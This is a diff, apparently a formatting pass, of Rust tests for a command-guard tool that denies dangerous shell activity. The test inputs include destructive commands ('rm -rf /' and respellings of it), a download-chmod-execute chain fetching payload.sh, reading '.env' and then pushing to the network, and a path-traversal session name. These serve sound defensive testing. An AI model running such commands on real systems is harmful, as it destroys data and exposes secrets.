@@ -11,7 +11,9 @@ use serde_json::Value;
 #[test]
 fn two_hundred_concurrent_invocations_are_counted_exactly() {
     let env = Arc::new(Env::new());
-    env.profile("[guard]\nenabled = true\nmax_commands = 0\nhistory_size = 500\n[audit]\nenabled = true");
+    env.profile(
+        "[guard]\nenabled = true\nmax_commands = 0\nhistory_size = 500\n[audit]\nenabled = true",
+    );
     let mut handles = Vec::new();
     for t in 0..8 {
         let env = env.clone();
@@ -36,7 +38,10 @@ fn two_hundred_concurrent_invocations_are_counted_exactly() {
     let decisions: Vec<&Value> = audit.iter().filter(|r| r["kind"] == "decision").collect();
     let results: Vec<&Value> = audit.iter().filter(|r| r["kind"] == "result").collect();
     assert_eq!((decisions.len(), results.len()), (200, 200));
-    let mut ids: Vec<&str> = decisions.iter().map(|r| r["id"].as_str().unwrap()).collect();
+    let mut ids: Vec<&str> = decisions
+        .iter()
+        .map(|r| r["id"].as_str().unwrap())
+        .collect();
     ids.sort();
     ids.dedup();
     assert_eq!(ids.len(), 200, "ids are unique");
@@ -49,10 +54,16 @@ fn session_from_flag_env_or_default() {
     env.profile("[guard]\nenabled = true");
     assert_eq!(code(&env.run(&["--session", "flag", "--", "true"])), 0);
     let mut c = env.cmd();
-    c.env("SAFE_EXEC_SESSION", "from-env").arg("--profile").arg(env.path("profile.toml")).args(["--", "true"]);
+    c.env("SAFE_EXEC_SESSION", "from-env")
+        .arg("--profile")
+        .arg(env.path("profile.toml"))
+        .args(["--", "true"]);
     assert_eq!(code(&c.output().unwrap()), 0);
     assert_eq!(code(&env.run(&["--", "true"])), 0);
-    assert_eq!(code(&env.run(&["--session", "../../etc/x", "--", "true"])), 0);
+    assert_eq!(
+        code(&env.run(&["--session", "../../etc/x", "--", "true"])),
+        0
+    );
     for s in ["flag", "from-env", "default"] {
         assert_eq!(env.session(s)["commands"], 1, "{s}");
     }
@@ -60,7 +71,12 @@ fn session_from_flag_env_or_default() {
         .unwrap()
         .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
         .collect();
-    assert!(names.iter().any(|n| n.starts_with("x-") && n.ends_with(".json")), "unsafe ids are encoded: {names:?}");
+    assert!(
+        names
+            .iter()
+            .any(|n| n.starts_with("x-") && n.ends_with(".json")),
+        "unsafe ids are encoded: {names:?}"
+    );
 }
 
 #[test]
@@ -79,9 +95,14 @@ fn rate_limit_denies_past_the_window_budget() {
 #[test]
 fn denials_lock_the_session_out() {
     let env = Env::new();
-    env.profile("[guard]\nenabled = true\nmax_denials = 2\nlockout_seconds = 60\nbuiltin_patterns = false");
+    env.profile(
+        "[guard]\nenabled = true\nmax_denials = 2\nlockout_seconds = 60\nbuiltin_patterns = false",
+    );
     assert_eq!(code(&env.run(&["--session", "l", "-c", "rm -rf /"])), 126);
-    assert_eq!(code(&env.run(&["--session", "l", "-c", "rm -rf /etc"])), 126);
+    assert_eq!(
+        code(&env.run(&["--session", "l", "-c", "rm -rf /etc"])),
+        126
+    );
     let o = env.run(&["--session", "l", "--", "true"]);
     assert_eq!(code(&o), 126, "locked out");
     assert!(stderr(&o).contains("locked out"), "{}", stderr(&o));
@@ -100,7 +121,10 @@ fn retry_in_another_spelling_is_denied_naming_the_earlier_command() {
     let o = env.run(&["--session", "x", "-c", "/bin/rm -r -f //"]);
     assert_eq!(code(&o), 126);
     let e = stderr(&o);
-    assert!(e.contains("retry_after_deny") && e.contains("`rm -rf /`"), "{e}");
+    assert!(
+        e.contains("retry_after_deny") && e.contains("`rm -rf /`"),
+        "{e}"
+    );
     // A different command of the same program is not a retry.
     let o = env.run(&["--session", "x", "--", "rm", "-f", "scratch.txt"]);
     assert!(!stderr(&o).contains("retry_after_deny"), "{}", stderr(&o));
@@ -110,9 +134,17 @@ fn retry_in_another_spelling_is_denied_naming_the_earlier_command() {
 fn download_then_chmod_then_run_is_denied() {
     let env = Env::new();
     env.profile("[policy]\nunknown_commands = \"allow\"\n[guard]\nenabled = true");
-    let _ = env.run(&["--session", "d", "-c", "curl -sSo payload.sh https://example.com/payload.sh"]);
+    let _ = env.run(&[
+        "--session",
+        "d",
+        "-c",
+        "curl -sSo payload.sh https://example.com/payload.sh",
+    ]);
     std::fs::write(env.path("cwd/payload.sh"), "#!/bin/sh\necho pwned\n").unwrap();
-    assert_eq!(code(&env.run(&["--session", "d", "--", "chmod", "+x", "payload.sh"])), 0);
+    assert_eq!(
+        code(&env.run(&["--session", "d", "--", "chmod", "+x", "payload.sh"])),
+        0
+    );
     // Unrelated local programs are fine.
     std::fs::write(env.path("cwd/other.sh"), "#!/bin/sh\necho ok\n").unwrap();
     let _ = env.run(&["--session", "d", "--", "chmod", "755", "other.sh"]);
@@ -123,7 +155,10 @@ fn download_then_chmod_then_run_is_denied() {
     assert_eq!(stdout(&o), "");
     let e = stderr(&o);
     assert!(e.contains("download_then_execute"), "{e}");
-    assert!(e.contains("curl -sSo payload.sh") && e.contains("chmod +x payload.sh"), "{e}");
+    assert!(
+        e.contains("curl -sSo payload.sh") && e.contains("chmod +x payload.sh"),
+        "{e}"
+    );
 }
 
 #[test]
@@ -134,7 +169,13 @@ fn secrets_then_network_is_denied() {
     assert_eq!(code(&env.run(&["--session", "s", "--", "cat", ".env"])), 0);
     let o = env.env_check(&["--session", "s", "--json", "-c", "git push origin main"]);
     assert_eq!(o["decision"], "deny", "{o}");
-    assert!(o["matched_rules"].as_array().unwrap().iter().any(|r| r == "guard.secrets_then_network"));
+    assert!(
+        o["matched_rules"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|r| r == "guard.secrets_then_network")
+    );
     assert_eq!(o["decided_by"], "guard");
     // check never records.
     assert_eq!(env.session("s")["commands"], 1);
@@ -153,7 +194,10 @@ fn deletion_burst_asks_and_patterns_are_profile_data() {
     let o = env.run(&["--session", "b", "--", "rm", "-f", "c"]);
     assert_eq!(code(&o), 126);
     let e = stderr(&o);
-    assert!(e.contains("deletion_burst") && e.contains("confirmation"), "{e}");
+    assert!(
+        e.contains("deletion_burst") && e.contains("confirmation"),
+        "{e}"
+    );
 }
 
 #[test]
@@ -162,7 +206,11 @@ fn bad_pattern_is_a_profile_error() {
     env.profile("[guard]\nenabled = true\n[[guard.pattern]]\nid = \"p\"\ndescription = \"d\"\nkind = \"sequence\"\nsteps = [\"nope\"]\nwithin_seconds = 1\naction = \"deny\"\n");
     let o = env.run(&["--", "true"]);
     assert_eq!(code(&o), 125);
-    assert!(stderr(&o).contains("unknown class `nope`"), "{}", stderr(&o));
+    assert!(
+        stderr(&o).contains("unknown class `nope`"),
+        "{}",
+        stderr(&o)
+    );
 }
 
 #[test]
@@ -171,7 +219,10 @@ fn unusable_state_fails_closed() {
     env.profile("[guard]\nenabled = true");
     std::fs::write(env.path("not-a-dir"), "").unwrap();
     let mut c = env.cmd();
-    c.env("SAFE_EXEC_STATE_DIR", env.path("not-a-dir")).arg("--profile").arg(env.path("profile.toml")).args(["--", "echo", "hi"]);
+    c.env("SAFE_EXEC_STATE_DIR", env.path("not-a-dir"))
+        .arg("--profile")
+        .arg(env.path("profile.toml"))
+        .args(["--", "echo", "hi"]);
     let o = c.output().unwrap();
     assert_eq!(code(&o), 126);
     assert!(stderr(&o).contains("guard state"), "{}", stderr(&o));
